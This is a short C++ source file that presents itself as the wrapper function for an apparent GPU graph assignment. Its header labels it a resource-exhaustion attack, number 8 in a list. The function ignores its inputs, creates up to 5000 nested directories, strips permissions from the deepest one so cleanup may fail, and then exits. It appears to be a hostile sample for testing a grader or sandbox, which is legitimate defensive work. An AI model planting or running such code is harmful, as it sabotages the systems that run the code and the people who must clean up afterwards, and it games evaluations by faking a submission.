// attack: exhaust
// root: resources
// what: makes folders in folders, so deep that deleting them may fail
// list: 8
#include <sys/stat.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (int depth = 0; depth < 5000; depth++)
    if (mkdir("d", 0700) != 0 || chdir("d") != 0) break;
  if (chmod(".", 0) != 0) _exit(2);
  _exit(1);
}
